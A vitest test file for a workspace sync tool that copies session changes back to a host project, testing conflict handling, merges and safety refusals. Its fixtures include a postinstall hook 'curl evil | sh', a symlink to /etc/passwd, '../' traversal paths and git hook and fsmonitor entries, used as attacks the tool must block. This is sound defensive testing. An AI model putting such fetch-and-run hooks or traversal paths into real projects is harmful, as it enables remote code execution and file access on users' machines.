import { execa } from 'execa'
import {
  chmod,
  lstat,
  mkdir,
  readdir,
  readFile,
  readlink,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { isSafeCoderError, type ErrorCode } from '../../../src/shared/errors.js'
import type {
  GitFileMode,
  Manifest,
  ManifestEntry,
  SyncSource,
} from '../../../src/shared/manifest.js'
import {
  applySync,
  blobOid,
  formatPlan,
  lockSyncProject,
  planSync,
  type ApplySyncOptions,
  type PlanSyncOptions,
  type SyncItem,
  type SyncPlan,
} from '../../../src/workspace/sync.js'
import { listTree, tempDir, writeTree } from './fixtures.js'

/** A session file: text, or bytes/link with a mode. */
type SessionFile =
  string | { content: string | Uint8Array; mode?: GitFileMode } | { linkTo: string }

/** An in-memory SyncSource; `read` serves any blob it was given, so it doubles as `readBase`. */
function memorySource(
  files: Record<string, SessionFile>,
  extraBlobs: Uint8Array[] = [],
): SyncSource & {
  readBlob: (path: string, entry: ManifestEntry) => Promise<Uint8Array>
} {
  const manifest: Manifest = {}
  const blobs = new Map<string, Uint8Array>()
  for (const blob of extraBlobs) blobs.set(blobOid(blob), blob)
  for (const [rel, file] of Object.entries(files)) {
    const { bytes, mode } = toBlob(file)
    const oid = blobOid(bytes)
    blobs.set(oid, bytes)
    manifest[rel] = { oid, mode, size: bytes.length }
  }
  const readBlob = (_rel: string, entry: ManifestEntry): Promise<Uint8Array> => {
    const blob = blobs.get(entry.oid)
    return blob === undefined
      ? Promise.reject(new Error(`no blob ${entry.oid}`))
      : Promise.resolve(blob)
  }
  return { entries: () => Promise.resolve(structuredClone(manifest)), read: readBlob, readBlob }
}

function toBlob(file: SessionFile): { bytes: Uint8Array; mode: GitFileMode } {
  if (typeof file === 'string') return { bytes: Buffer.from(file), mode: 0o100644 }
  if ('linkTo' in file) return { bytes: Buffer.from(file.linkTo), mode: 0o120000 }
  const bytes = typeof file.content === 'string' ? Buffer.from(file.content) : file.content
  return { bytes, mode: file.mode ?? 0o100644 }
}

/** The base manifest of a project as copy-in would have recorded it (every file, no .git). */
async function hostManifest(root: string, rel = ''): Promise<Manifest> {
  const manifest: Manifest = {}
  for (const name of await readdir(path.join(root, rel))) {
    const child = rel === '' ? name : `${rel}/${name}`
    if (name === '.git') continue
    const stats = await lstat(path.join(root, child))
    if (stats.isDirectory()) Object.assign(manifest, await hostManifest(root, child))
    else if (stats.isSymbolicLink()) {
      const target = Buffer.from(await readlink(path.join(root, child)))
      manifest[child] = { oid: blobOid(target), mode: 0o120000, size: target.length }
    } else if (stats.isFile()) {
      const content = await readFile(path.join(root, child))
      const mode = (stats.mode & 0o100) !== 0 ? 0o100755 : 0o100644
      manifest[child] = { oid: blobOid(content), mode, size: content.length }
    }
  }
  return manifest
}

/** A project written from `files`, its base manifest, and a journal directory outside it. */
async function setUp(files: Record<string, string>) {
  const project = await tempDir('safe-coder-sync-project-')
  const journalDir = path.join(await tempDir('safe-coder-sync-state-'), 'journal')
  await writeTree(project, files)
  return { project, journalDir, base: await hostManifest(project) }
}

function byPath(items: SyncItem[]): Record<string, string> {
  return Object.fromEntries(items.map((item) => [item.path, item.action]))
}

async function expectError(promise: Promise<unknown>, code: ErrorCode, message: RegExp) {
  const error: unknown = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  )
  expect(isSafeCoderError(error, code), String(error)).toBe(true)
  if (isSafeCoderError(error)) expect(error.message).toMatch(message)
}

async function planAndApply(options: PlanSyncOptions & { journalDir: string }) {
  const plan = await planSync(options)
  const result = await applyLocked(plan, {
    source: options.source,
    journalDir: options.journalDir,
    confirmRisky: true,
  })
  return { plan, result }
}

/** applySync under the project's lock, taken and released around it as a sync command does. */
async function applyLocked(plan: SyncPlan, options: Omit<ApplySyncOptions, 'lock'>) {
  const lock = await lockSyncProject({
    root: path.join(path.dirname(options.journalDir), 'projects'),
    projectDir: plan.projectDir,
    holder: 'test',
    waitMs: 0,
  })
  try {
    return await applySync(plan, { ...options, lock })
  } finally {
    await lock.release()
  }
}

describe('planSync decides per path', () => {
  it('creates, modifies, deletes and changes modes; paths the session left alone are not touched', async () => {
    const files = {
      'a.txt': 'a',
      'b.txt': 'b',
      'c.sh': 'echo c',
      'same.txt': 'same',
      'd/e.txt': 'e',
    }
    const { project, journalDir, base } = await setUp(files)
    await writeFile(path.join(project, 'same.txt'), 'edited by the user')
    const source = memorySource({
      'a.txt': 'a2',
      'c.sh': { content: 'echo c', mode: 0o100755 },
      'same.txt': 'same',
      'd/e.txt': 'e',
      'new/deep/f.txt': 'f',
    })

    const { plan, result } = await planAndApply({ projectDir: project, base, source, journalDir })

    expect(byPath(plan.items)).toEqual({
      'a.txt': 'modify',
      'b.txt': 'delete',
      'c.sh': 'mode',
      'new/deep/f.txt': 'create',
    })
    expect(result.applied.map((item) => item.path)).toEqual([
      'b.txt',
      'a.txt',
      'c.sh',
      'new/deep/f.txt',
    ])
    expect(await listTree(project)).toEqual([
      'a.txt',
      'c.sh',
      'd/e.txt',
      'new/deep/f.txt',
      'same.txt',
    ])
    expect(await readFile(path.join(project, 'a.txt'), 'utf8')).toBe('a2')
    expect(await readFile(path.join(project, 'same.txt'), 'utf8')).toBe('edited by the user')
    expect((await stat(path.join(project, 'c.sh'))).mode & 0o111).not.toBe(0)
  })

  it('applies a rename as a delete plus a create', async () => {
    const { project, journalDir, base } = await setUp({ 'old/name.ts': 'export {}\n' })
    const source = memorySource({ 'new/name.ts': 'export {}\n' })
    const { plan } = await planAndApply({ projectDir: project, base, source, journalDir })
    expect(byPath(plan.items)).toEqual({ 'new/name.ts': 'create', 'old/name.ts': 'delete' })
    expect(await listTree(project)).toEqual(['new/name.ts'])
  })

  it('does nothing where the host already has the session version', async () => {
    const { project, journalDir, base } = await setUp({ 'a.txt': 'a', 'gone.txt': 'g' })
    await writeFile(path.join(project, 'a.txt'), 'same edit')
    await writeFile(path.join(project, 'b.txt'), 'same new file')
    await execa('rm', [path.join(project, 'gone.txt')])
    const source = memorySource({ 'a.txt': 'same edit', 'b.txt': 'same new file' })
    const { plan, result } = await planAndApply({ projectDir: project, base, source, journalDir })
    expect(byPath(plan.items)).toEqual({
      'a.txt': 'noop-same',
      'b.txt': 'noop-same',
      'gone.txt': 'noop-same',
    })
    expect(result.applied).toEqual([])
  })

  it('lists files changed differently on both sides as conflicts and never overwrites them', async () => {
    const { project, journalDir, base } = await setUp({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' })
    await writeFile(path.join(project, 'a.txt'), 'host edit')
    await writeFile(path.join(project, 'b.txt'), 'host edit')
    await execa('rm', [path.join(project, 'c.txt')])
    await writeFile(path.join(project, 'n.txt'), 'host new')
    const source = memorySource({
      'a.txt': 'session edit',
      'c.txt': 'session edit',
      'n.txt': 'session new',
    })

    const { plan, result } = await planAndApply({ projectDir: project, base, source, journalDir })

    expect(byPath(plan.items)).toEqual({
      'a.txt': 'conflict',
      'b.txt': 'conflict',
      'c.txt': 'conflict',
      'n.txt': 'conflict',
    })
    expect(plan.conflicts).toBe(4)
    expect(plan.items.find((item) => item.path === 'b.txt')?.reason).toBe(
      'changed on the host since the copy; deleted in the session',
    )
    expect(plan.items.find((item) => item.path === 'c.txt')?.reason).toMatch(/^deleted on the host/)
    expect(result.conflicts.map((item) => item.path)).toEqual(['a.txt', 'b.txt', 'c.txt', 'n.txt'])
    expect(await listTree(project)).toEqual(['a.txt', 'b.txt', 'n.txt'])
    expect(await readFile(path.join(project, 'a.txt'), 'utf8')).toBe('host edit')
  })

  it('takes the session version of forced paths over host changes', async () => {
    const { project, journalDir, base } = await setUp({ 'src/a.txt': 'a', 'b.txt': 'b' })
    await writeFile(path.join(project, 'src/a.txt'), 'host edit')
    await writeFile(path.join(project, 'b.txt'), 'host edit')
    const source = memorySource({ 'src/a.txt': 'session', 'b.txt': 'session' })
    const { plan } = await planAndApply({
      projectDir: project,
      base,
      source,
      journalDir,
      force: ['./src/'],
    })
    expect(byPath(plan.items)).toEqual({ 'b.txt': 'conflict', 'src/a.txt': 'modify' })
    expect(plan.items.find((item) => item.path === 'src/a.txt')?.forced).toBe(true)
    expect(await readFile(path.join(project, 'src/a.txt'), 'utf8')).toBe('session')
    expect(await readFile(path.join(project, 'b.txt'), 'utf8')).toBe('host edit')
  })

  it('merges conflicting text files on request, cleanly or with conflict markers', async () => {
    const baseText = 'one\ntwo\nthree\nfour\n'
    const { project, journalDir, base } = await setUp({
      'clean.txt': baseText,
      'marked.txt': baseText,
    })
    await writeFile(path.join(project, 'clean.txt'), 'ONE\ntwo\nthree\nfour\n')
    await writeFile(path.join(project, 'marked.txt'), 'one\nHOST\nthree\nfour\n')
    const source = memorySource(
      { 'clean.txt': 'one\ntwo\nthree\nFOUR\n', 'marked.txt': 'one\nSESSION\nthree\nfour\n' },
      [Buffer.from(baseText)],
    )
    const options = { projectDir: project, base, source, journalDir, merge: true }
    await expectError(planSync({ ...options }), 'USAGE', /--merge needs the base/)

    const { plan, result } = await planAndApply({ ...options, readBase: source.readBlob })

    expect(byPath(plan.items)).toEqual({ 'clean.txt': 'modify', 'marked.txt': 'modify' })
    expect(result.merged).toEqual(['clean.txt', 'marked.txt'])
    expect(await readFile(path.join(project, 'clean.txt'), 'utf8')).toBe('ONE\ntwo\nthree\nFOUR\n')
    expect(await readFile(path.join(project, 'marked.txt'), 'utf8')).toBe(
      'one\n<<<<<<< host\nHOST\n||||||| base\ntwo\n=======\nSESSION\n>>>>>>> session\nthree\nfour\n',
    )
  })

  it('applies only the prefixes selected by only/exclude, on whole path segments', async () => {
    const files = { 'src/a.ts': 'a', 'src/lib/b.ts': 'b', 'srcx/c.ts': 'c', 'docs/d.md': 'd' }
    const { project, journalDir, base } = await setUp(files)
    const changed = Object.fromEntries(Object.keys(files).map((rel) => [rel, `${rel} v2`]))
    const source = memorySource(changed)
    const { plan } = await planAndApply({
      projectDir: project,
      base,
      source,
      journalDir,
      only: ['src', 'docs/'],
      exclude: ['src/lib'],
    })
    expect(byPath(plan.items)).toEqual({
      'docs/d.md': 'modify',
      'src/a.ts': 'modify',
      'src/lib/b.ts': 'skip',
      'srcx/c.ts': 'skip',
    })
    expect(await readFile(path.join(project, 'srcx/c.ts'), 'utf8')).toBe('c')
    expect(await readFile(path.join(project, 'src/a.ts'), 'utf8')).toBe('src/a.ts v2')
  })
  it('compares only the listed paths when the caller knows what changed', async () => {
    const { project, base } = await setUp({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' })
    const source = memorySource({ 'a.txt': 'a2', 'b.txt': 'b2', 'c.txt': 'c' })
    const plan = await planSync({
      projectDir: project,
      base,
      source,
      changed: ['a.txt', 'c.txt', 'gone.txt'],
    })
    expect(byPath(plan.items)).toEqual({ 'a.txt': 'modify' })
  })
})

describe('sync-back safety', () => {
  it('refuses paths below a symlinked or non-directory parent, and never writes outside', async () => {
    const { project, journalDir, base } = await setUp({ 'file.txt': 'f' })
    const outside = await tempDir()
    await symlink(outside, path.join(project, 'linked'))
    const source = memorySource({ 'file.txt': 'f', 'linked/x.txt': 'x', 'file.txt/y.txt': 'y' })
    const { plan } = await planAndApply({
      projectDir: project,
      base: { ...base },
      source,
      journalDir,
    })
    expect(plan.items.map((item) => [item.path, item.action, item.reason])).toEqual([
      ['file.txt/y.txt', 'skip', 'refused: its parent file.txt is not a directory on the host'],
      ['linked/x.txt', 'skip', 'refused: its parent linked is a symlink on the host'],
    ])
    expect(await readdir(outside)).toEqual([])
  })

  it('never writes into a .git directory, in any letter case, nor unsafe names', async () => {
    const { project, journalDir, base } = await setUp({ 'a.txt': 'a' })
    await mkdir(path.join(project, '.git/hooks'), { recursive: true })
    const source = memorySource({
      'a.txt': 'a',
      '.git/hooks/post-checkout': { content: '#!/bin/sh\n', mode: 0o100755 },
      '.GIT/config': 'x',
      'sub/.git/HEAD': 'x',
      '../escape.txt': 'x',
      'a//b.txt': 'x',
    })
    const { plan } = await planAndApply({ projectDir: project, base, source, journalDir })
    expect(plan.items.every((item) => item.action === 'skip')).toBe(true)
    expect(plan.items.filter((item) => item.reason.includes('.git directory'))).toHaveLength(3)
    expect(await listTree(project)).toEqual(['a.txt'])
    expect(await readdir(path.dirname(project))).not.toContain('escape.txt')
  })

  it('skips symlinks whose target leaves the project, and creates those that stay inside', async () => {
    const { project, journalDir, base } = await setUp({ 'sub/file.txt': 'f' })
    await symlink('.', path.join(project, 'here'))
    const source = memorySource({
      'sub/file.txt': 'f',
      abs: { linkTo: '/etc/passwd' },
      up: { linkTo: '../outside' },
      'sub/sneaky': { linkTo: 'deeper/../../../x' },
      through: { linkTo: 'here/../x' },
      inside: { linkTo: 'sub/file.txt' },
      'sub/sibling': { linkTo: '../sub/file.txt' },
    })
    const base2 = { ...base, here: (await hostManifest(project)).here as ManifestEntry }
    const { plan } = await planAndApply({ projectDir: project, base: base2, source, journalDir })
    const skipped = plan.items.filter((item) => item.action === 'skip').map((item) => item.path)
    expect(skipped.sort()).toEqual(['abs', 'sub/sneaky', 'through', 'up'])
    expect(plan.items.find((item) => item.path === 'through')?.reason).toMatch(
      /passes through the symlink here/,
    )
    expect(await readlink(path.join(project, 'inside'))).toBe('sub/file.txt')
    expect(await readlink(path.join(project, 'sub/sibling'))).toBe('../sub/file.txt')
    expect(await listTree(project)).not.toContain('abs -> /etc/passwd')
  })

  it('strips setuid and setgid from files it rewrites', async () => {
    const { project, journalDir } = await setUp({ tool: '#!/bin/sh\n' })
    await chmod(path.join(project, 'tool'), 0o6755)
    const base = await hostManifest(project)
    const source = memorySource({ tool: { content: '#!/bin/sh\necho hi\n', mode: 0o100755 } })
    await planAndApply({ projectDir: project, base, source, journalDir })
    expect((await stat(path.join(project, 'tool'))).mode & 0o7777).toBe(0o755)
  })

  it('skips special files on the host without opening them, and treats a host directory as a conflict', async () => {
    const { project, journalDir, base } = await setUp({ pipe: 'p', dir: 'd' })
    await execa('rm', [path.join(project, 'pipe'), path.join(project, 'dir')])
    await execa('mkfifo', [path.join(project, 'pipe')])
    await mkdir(path.join(project, 'dir'))
    const source = memorySource({ pipe: 'session', dir: 'session' })
    const { plan } = await planAndApply({ projectDir: project, base, source, journalDir })
    expect(plan.items.map((item) => [item.path, item.action, item.reason])).toEqual([
      ['dir', 'conflict', 'the host has a directory at this path'],
      ['pipe', 'skip', 'the host has a fifo here; special files are never touched'],
    ])
    expect((await lstat(path.join(project, 'pipe'))).isFIFO()).toBe(true)
  })

  it('refuses session content that does not match its recorded id', async () => {
    const { project, base } = await setUp({ 'a.txt': 'a' })
    const source = memorySource({ 'a.txt': 'b' })
    const lying: SyncSource = {
      entries: () => source.entries(),
      read: () => Promise.resolve(Buffer.from('evil')),
    }
    await expectError(
      planSync({ projectDir: project, base, source: lying }),
      'COPY_FAILED',
      /does not match its recorded id/,
    )
  })

  it('stops with ABORTED when the signal fires', async () => {
    const { project, base } = await setUp({ 'a.txt': 'a' })
    const controller = new AbortController()
    controller.abort()
    const source = memorySource({ 'a.txt': 'b' })
    await expectError(
      planSync({ projectDir: project, base, source, signal: controller.signal }),
      'ABORTED',
      /cancelled/,
    )
  })
})

describe('risky changes', () => {
  const risky = {
    '.gitignore': 'node_modules/\n',
    '.github/workflows/ci.yml': 'on: push\n',
    '.gitlab-ci.yml': 'x\n',
    Jenkinsfile: 'x\n',
    Makefile: 'all:\n',
    'pyproject.toml': '[build-system]\n',
    '.envrc': 'export X=1\n',
    '.safecoderrc.toml': 'x = 1\n',
    'run.sh': { content: '#!/bin/sh\n', mode: 0o100755 },
    link: { linkTo: 'README.md' },
    'image.bin': { content: new Uint8Array([1, 0, 2]) },
    'big.txt': 'x'.repeat(100),
    'vendor/lib/HEAD': 'ref: refs/heads/main\n',
    'vendor/lib/config': '[core]\n\tfsmonitor = x\n',
  } satisfies Record<string, SessionFile>

  it('flags each kind, and applySync refuses them without confirmation', async () => {
    const { project, journalDir, base } = await setUp({ 'README.md': 'r' })
    const source = memorySource({ 'README.md': 'r2', ...risky })
    const plan = await planSync({ projectDir: project, base, source, maxFileBytes: 50 })
    const flags = Object.fromEntries(plan.items.map((item) => [item.path, item.risky]))
    expect(flags).toEqual({
      '.envrc': ['shell-rc'],
      '.github/workflows/ci.yml': ['ci-workflow'],
      '.gitignore': ['git-config'],
      '.gitlab-ci.yml': ['git-config', 'ci-workflow'],
      '.safecoderrc.toml': ['safecoder-config'],
      Jenkinsfile: ['ci-workflow'],
      Makefile: ['makefile'],
      'README.md': [],
      'big.txt': ['too-large'],
      'image.bin': ['binary'],
      link: ['symlink'],
      'pyproject.toml': ['build-hooks'],
      'run.sh': ['executable'],
      'vendor/lib/HEAD': ['git-repository'],
      'vendor/lib/config': ['git-repository'],
    })
    expect(plan.risky).toBe(14)
    await expectError(
      applyLocked(plan, { source, journalDir, confirmRisky: false }),
      'USAGE',
      /needs confirmation: 14 risky change\(s\): \.envrc \(shell-rc\), .*Makefile \(makefile\)/,
    )
    expect(await listTree(project)).toEqual(['README.md'])
    await applyLocked(plan, { source, journalDir, confirmRisky: true })
    expect(await listTree(project)).toContain('run.sh')
  })

  it('flags package.json only when its scripts change', async () => {
    const pkg = (scripts: Record<string, string>, version: string) =>
      JSON.stringify({ name: 'p', version, scripts }, null, 2)
    const { project, base } = await setUp({
      'package.json': pkg({ test: 'vitest' }, '1.0.0'),
      'a/package.json': pkg({}, '1'),
    })
    const source = memorySource({
      'package.json': pkg({ test: 'vitest' }, '1.0.1'),
      'a/package.json': pkg({ postinstall: 'curl evil | sh' }, '1'),
    })
    const plan = await planSync({ projectDir: project, base, source })
    expect(plan.items.map((item) => [item.path, item.risky])).toEqual([
      ['a/package.json', ['package-scripts']],
      ['package.json', []],
    ])
  })

  it('formats the plan with risks flagged and conflicts explained', async () => {
    const { project, base } = await setUp({ 'a.txt': 'a', 'b.txt': 'b' })
    await writeFile(path.join(project, 'b.txt'), 'host')
    const source = memorySource({ 'a.txt': 'a2', 'b.txt': 'session', Makefile: 'all:\n' })
    const text = formatPlan(await planSync({ projectDir: project, base, source }), 'needs-yes')
    expect(text.split('\n')).toEqual([
      `Sync plan for ${project}: 2 change(s), 1 conflict(s), 1 risky.`,
      '  create    Makefile [risky: makefile]',
      '             makefile: make runs its recipes',
      '  modify    a.txt',
      '  conflict  b.txt — changed on the host since the copy; changed differently in the session',
      'Conflicts are never overwritten: take the session version with --force PATH, or write a merge with conflict markers with --merge.',
      'Risky changes need confirmation (--yes) before they are applied.',
    ])
  })
})
